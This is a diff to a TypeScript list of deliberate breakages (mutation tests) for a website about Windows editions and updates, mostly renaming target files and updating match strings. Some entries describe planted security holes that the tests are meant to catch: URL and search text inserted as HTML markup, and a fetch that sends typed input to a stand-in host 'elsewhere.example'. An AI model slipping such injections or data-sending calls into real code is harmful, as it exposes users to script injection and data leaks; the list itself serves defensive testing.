@@ -174,16 +174,16 @@ export const BREAKAGES: readonly Breakage[] = [
   },
   {
     what: 'a verdict is announced at every key',
-    file: `${CHECKER}/start.ts`,
+    file: `${CHECKER}/start-checker.ts`,
     find: '}, TYPING_PAUSE_MS);',
     replace: '}, 0);',
     spec: 'live-region',
   },
   {
     what: 'the name of an update is a cell like any other',
-    file: 'src/components/EditionTable.astro',
-    find: '<th scope="row">\n                <a href={pathToKb(lang, update.kb)}>{update.kb}</a>\n              </th>',
-    replace: '<td>\n                <a href={pathToKb(lang, update.kb)}>{update.kb}</a>\n              </td>',
+    file: 'src/components/UpdateCells.astro',
+    find: '<th scope="row">\n  <a href={pathToKb(lang, update.kb)}>{update.kb}</a>\n</th>',
+    replace: '<td>\n  <a href={pathToKb(lang, update.kb)}>{update.kb}</a>\n</td>',
     spec: 'screen-reader',
     title: 'an edition table at 1280',
   },
@@ -198,7 +198,7 @@ export const BREAKAGES: readonly Breakage[] = [
   {
     what: 'nothing says how a table is sorted',
     file: 'src/scripts/sortable-table.ts',
-    find: "if (direction !== 'none') heading.ariaSort = direction;",
+    find: "if (direction !== 'none') heading.setAttribute('aria-sort', direction);",
     replace: "if (direction !== 'none') heading.dataset['sorted'] = direction;",
     spec: 'screen-reader',
     title: 'an edition table at 1280',
@@ -303,8 +303,8 @@ export const BREAKAGES: readonly Breakage[] = [
   {
     what: 'an edition table is wider than a phone',
     file: 'src/styles/edition-table.css',
-    find: '  .edition-table .bulletin {',
-    replace: '  .edition-table {\n    min-inline-size: 40rem;\n  }\n\n  .edition-table .bulletin {',
+    find: '  .edition-table .original {',
+    replace: '  .edition-table {\n    min-inline-size: 40rem;\n  }\n\n  .edition-table .original {',
     spec: 'every-kind',
     title: '/en/editions/windows-7-sp1/ ',
   },
@@ -346,7 +346,7 @@ export const BREAKAGES: readonly Breakage[] = [
   },
   {
     what: 'the verdict comes after the frame of its key',
-    file: `${CHECKER}/start.ts`,
+    file: `${CHECKER}/start-checker.ts`,
     find: '    edit: () => {\n      readFields(false);',
     replace: '    edit: () => {\n      setTimeout(readFields, 60, false);',
     spec: 'same-frame',
@@ -355,7 +355,7 @@ export const BREAKAGES: readonly Breakage[] = [
   // What nobody may do.
   {
     what: 'what the address says becomes markup',
-    file: `${CHECKER}/start.ts`,
+    file: `${CHECKER}/start-checker.ts`,
     find: 'if (text !== null) version.value = text;',
     replace: "if (text !== null) (version.value = text), root.insertAdjacentHTML('afterend', text);",
     spec: 'hostile-input',
@@ -363,8 +363,8 @@ export const BREAKAGES: readonly Breakage[] = [
   {
     what: 'what was searched for becomes markup',
     file: `${SEARCH}/results-page.ts`,
-    find: 'status.textContent =\n        hits.length === 0',
-    replace: 'status.innerHTML =\n        hits.length === 0',
+    find: 'status.textContent =\n          shown.length === 0',
+    replace: 'status.innerHTML =\n          shown.length === 0',
     spec: 'hostile-machines',
     title: 'a hostile search',
   },
@@ -378,7 +378,7 @@ export const BREAKAGES: readonly Breakage[] = [
   },
   {
     what: 'what was typed is sent away',
-    file: `${CHECKER}/start.ts`,
+    file: `${CHECKER}/start-checker.ts`,
     find: '      readFields(false);\n',
     replace:
       '      readFields(false);\n      void fetch(`https://elsewhere.example/${version.value}`).catch(() => undefined);\n',
